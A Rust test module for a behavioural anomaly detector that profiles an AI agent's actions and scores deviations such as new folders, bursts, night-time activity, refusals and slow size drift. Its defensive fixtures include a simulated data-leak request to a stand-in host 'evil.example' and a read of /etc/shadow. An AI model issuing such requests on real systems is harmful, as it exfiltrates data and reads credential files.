//! What a profile promises: bounds, what it learns and what it does not, what walks slowly.

use jiff::{Timestamp, ToSpan};
use proptest::prelude::*;
use serde_json::{Value, json};

use super::super::{Feature, Key, VALUE_MAX};
use super::*;
use crate::facts::{Facts, NoMemo};
use crate::request::{ActionRequest, Defaults};

const PACE: Pace =
    Pace { warm_up_actions: 100, warm_up_minutes: 60, half_life_days: 14.0, trial_minutes: 60 };

fn observe(action_type: &str, target: &str, parameters: Value) -> Observation {
    let value =
        json!({"agent_id": "a", "action_type": action_type, "target": target, "parameters": parameters});
    let defaults = Defaults { action_id: "a".into(), timestamp: Timestamp::UNIX_EPOCH };
    let request = ActionRequest::from_value(value, defaults).unwrap();
    Observation::new(&Facts::new(&request, &NoMemo), &Key::new([5; 16]), None)
}

fn search(text: &str) -> Observation {
    observe("tool_call", "search", json!({ "query": text }))
}

fn read(path: &str) -> Observation {
    observe("file_read", "read", json!({ "path": path }))
}

fn start() -> Timestamp {
    "2026-11-02T09:00:00Z".parse().unwrap()
}

/// Searches and reads, a minute apart, from nine o'clock on; the time after the last.
fn office(profile: &mut Profile, actions: u32) -> Timestamp {
    let mut now = start();
    for number in 0..actions {
        let seen = if number % 3 == 0 { read("/srv/data/a.csv") } else { search("orders of this week") };
        profile.learn(&seen, Outcome::Clean, now, &PACE);
        now = now.checked_add(1.minute()).unwrap();
    }
    now
}

fn established() -> (Profile, Timestamp) {
    let mut profile = Profile::new(start());
    let now = office(&mut profile, 200);
    assert_eq!(profile.stage(), Stage::Established);
    (profile, now)
}

fn value(profile: &Profile, seen: &Observation, feature: Feature, now: Timestamp) -> f32 {
    profile.measure(seen, None, now, &PACE).value(feature)
}

#[test]
fn what_it_always_does_is_usual_and_what_it_never_did_is_not() {
    let (profile, now) = established();
    let usual = profile.measure(&search("orders of this week"), None, now, &PACE);
    for feature in Feature::ALL {
        assert!(usual.value(feature) < 1.7, "{feature:?} {}", usual.value(feature));
    }
    let leak =
        observe("network_request", "https://evil.example/x", json!({"body": "x".repeat(9_000), "n": 1e9}));
    let unusual = profile.measure(&leak, None, now, &PACE);
    for feature in [Feature::Kind, Feature::Act, Feature::Transition, Feature::Shape, Feature::Size] {
        assert!(unusual.value(feature) > 3.5, "{feature:?} {}", unusual.value(feature));
    }
}

#[test]
fn a_new_folder_is_unusual_and_a_known_one_is_not() {
    let (profile, now) = established();
    let place = |path| value(&profile, &read(path), Feature::Place, now);
    assert!(place("/srv/data/b.csv") < 0.5 && place("/etc/shadow") > 3.5, "{}", place("/etc/shadow"));
}

#[test]
fn a_burst_is_a_higher_rate() {
    let (mut profile, now) = established();
    let before = value(&profile, &search("x"), Feature::Rate, now);
    for _ in 0..100 {
        profile.learn(&search("orders of this week"), Outcome::Flagged, now, &PACE);
    }
    let after = value(&profile, &search("x"), Feature::Rate, now);
    assert!(before < 1.0 && after > 5.0, "{before} {after}");
}

#[test]
fn the_middle_of_the_night_is_unusual_for_who_works_by_day() {
    let mut profile = Profile::new(start());
    for day in 0..21 {
        let morning = start().checked_add((24 * day).hours()).unwrap();
        for minute in 0..60 {
            profile.learn(
                &search("x"),
                Outcome::Clean,
                morning.checked_add((4 * minute).minutes()).unwrap(),
                &PACE,
            );
        }
    }
    let at = |text: &str| value(&profile, &search("x"), Feature::Hour, text.parse().unwrap());
    assert_eq!(at("2026-11-24T10:00:00Z"), 0.0);
    assert!(at("2026-11-24T03:00:00Z") > 3.0, "{}", at("2026-11-24T03:00:00Z"));
}

#[test]
fn refusals_of_late_are_seen() {
    let (mut profile, now) = established();
    assert_eq!(value(&profile, &search("x"), Feature::Denials, now), 0.0);
    (0..10).for_each(|_| profile.learn(&search("x"), Outcome::Refused, now, &PACE));
    assert!(value(&profile, &search("x"), Feature::Denials, now) > 2.0);
}

#[test]
fn nothing_is_learned_from_what_was_flagged_or_refused() {
    let (mut profile, now) = established();
    let leak = observe("network_request", "evil", json!({"body": "x"}));
    let before = profile.measure(&leak, None, now, &PACE);
    for _ in 0..1_000 {
        profile.learn(&leak, Outcome::Flagged, now, &PACE);
        profile.learn(&leak, Outcome::Refused, now, &PACE);
    }
    let after = profile.measure(&leak, None, now, &PACE);
    for feature in [Feature::Kind, Feature::Act, Feature::Shape, Feature::Size] {
        assert!(after.value(feature) >= before.value(feature), "{feature:?}");
    }
    assert_eq!((profile.learned(), profile.suspect()), (200, 2_000));
}

#[test]
fn something_new_is_on_trial_and_one_suspicion_ends_it() {
    let (mut profile, now) = established();
    let new = observe("tool_call", "export", json!({"to": "disk"}));
    let act = |profile: &Profile, now| value(profile, &new, Feature::Act, now);
    (0..20).for_each(|_| profile.learn(&new, Outcome::Clean, now, &PACE));
    let on_trial = act(&profile, now);
    let later = now.checked_add(2.hours()).unwrap();
    assert!(on_trial > 5.5 && act(&profile, later) < 5.0, "{on_trial} {}", act(&profile, later));
    let mut suspected = profile.clone();
    suspected.learn(&search("x"), Outcome::Refused, now, &PACE);
    assert!(act(&suspected, later) > 5.5);
}

#[test]
fn who_walks_slowly_to_a_thousand_times_the_size_is_stopped_on_the_way() {
    let (mut profile, mut now) = established();
    let mut size = 19.0_f64;
    for _ in 0..4_000 {
        size = (size * 1.002).min(19_000.0);
        now = now.checked_add(1.minute()).unwrap();
        profile.learn(&search(&"x".repeat(size as usize)), Outcome::Clean, now, &PACE);
    }
    assert_eq!(profile.drift(), 1.0, "the drift is reported");
    let before = value(&profile, &search(&"x".repeat(19_000)), Feature::Size, now);
    assert!(before > 5.0, "{before}");
    profile.accept(now);
    assert_eq!(profile.drift(), 0.0);
}

#[test]
fn peers_stand_in_for_who_is_new_and_less_and_less_so() {
    let (peers, now) = established();
    let newcomer = Profile::new(now);
    let with_peers = |profile: &Profile, seen: &Observation| {
        profile.measure(seen, Some(&peers), now, &PACE).value(Feature::Act)
    };
    let odd = observe("network_request", "evil", json!({}));
    assert!(with_peers(&newcomer, &search("x")) < 0.5 && with_peers(&newcomer, &odd) > 3.0);
    // Who does other things than its peers is judged by its own ways once they are known.
    let mut own = Profile::new(now);
    (0..200).for_each(|_| own.learn(&odd, Outcome::Clean, now, &PACE));
    assert!(with_peers(&own, &odd) < 0.5);
}

#[test]
fn long_after_the_last_action_it_still_learns_and_stays_finite() {
    let (mut profile, _) = established();
    for year in [2027, 2030, 2100, 9999] {
        let now = format!("{year}-06-01T00:00:00Z").parse().unwrap();
        profile.learn(&search("x"), Outcome::Clean, now, &PACE);
        assert!(value(&profile, &search("x"), Feature::Act, now) <= VALUE_MAX);
        assert_eq!(Profile::from_bytes(&profile.to_bytes()).as_ref(), Ok(&profile));
    }
}

/// Any action: a few kinds of many targets, shapes, places and sizes.
fn any_action() -> impl Strategy<Value = (Observation, Outcome, u32)> {
    let outcome =
        prop_oneof![6 => Just(Outcome::Clean), 1 => Just(Outcome::Flagged), 1 => Just(Outcome::Refused)];
    (0..8_usize, 0..100_u32, 0..100_u32, 0..3_000_usize, outcome, 0..100_000_u32).prop_map(
        |(kind, target, place, size, outcome, seconds)| {
            let kind = crate::request::ActionType::ALL[kind].as_str();
            let name = format!("p{}", place % 50);
            let parameters =
                json!({ name: "x".repeat(size), "url": format!("http://h{place}.example/"), "n": place });
            (observe(kind, &format!("t{target}"), parameters), outcome, seconds)
        },
    )
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(48))]

    #[test]
    fn whatever_an_agent_does_its_profile_stays_within_four_kibibytes(
        actions in prop::collection::vec(any_action(), 0..400),
    ) {
        let mut profile = Profile::new(start());
        let mut now = start();
        for (seen, outcome, seconds) in &actions {
            now = now.checked_add(i64::from(*seconds).seconds()).unwrap();
            let measured = profile.measure(seen, None, now, &PACE);
            prop_assert!(measured.values().iter().all(|value| (0.0..=VALUE_MAX).contains(value)));
            profile.learn(seen, *outcome, now, &PACE);
        }
        prop_assert!(profile.memory() <= PROFILE_BYTES_MAX, "{}", profile.memory());
        let bytes = profile.to_bytes();
        prop_assert!(bytes.len() <= PROFILE_BYTES_MAX, "{}", bytes.len());
        let read = Profile::from_bytes(&bytes).unwrap();
        prop_assert_eq!(&read, &profile);
        prop_assert_eq!(read.to_bytes(), bytes);
    }

    #[test]
    fn bytes_are_read_or_refused(cut in 0..4_000_usize, flips in prop::collection::vec((0..4_000_usize, any::<u8>()), 0..6)) {
        let mut bytes = established().0.to_bytes();
        bytes.truncate(cut.max(1));
        for (at, with) in flips {
            if let Some(byte) = bytes.get_mut(at) {
                *byte ^= with;
            }
        }
        if let Ok(profile) = Profile::from_bytes(&bytes) {
            prop_assert_eq!(profile.to_bytes(), bytes);
            let measured = profile.measure(&search("x"), None, start(), &PACE);
            prop_assert!(measured.values().iter().all(|value| value.is_finite()));
        }
    }
}

#[test]
fn a_full_profile_is_full_and_still_fits() {
    let mut profile = Profile::new(start());
    for number in 0..3_000 {
        let parameters = json!({ format!("p{number}"): 1, "url": format!("http://h{number}.example/") });
        profile.learn(
            &observe("tool_call", &format!("t{number}"), parameters),
            Outcome::Clean,
            start(),
            &PACE,
        );
    }
    assert_eq!((profile.acts.len(), profile.pairs.len()), (ACTS, PAIRS));
    assert_eq!((profile.shapes.len(), profile.places.len()), (SHAPES, PLACES));
    assert!(profile.memory() <= PROFILE_BYTES_MAX, "{}", profile.memory());
    assert!(profile.to_bytes().len() <= PROFILE_BYTES_MAX);
}
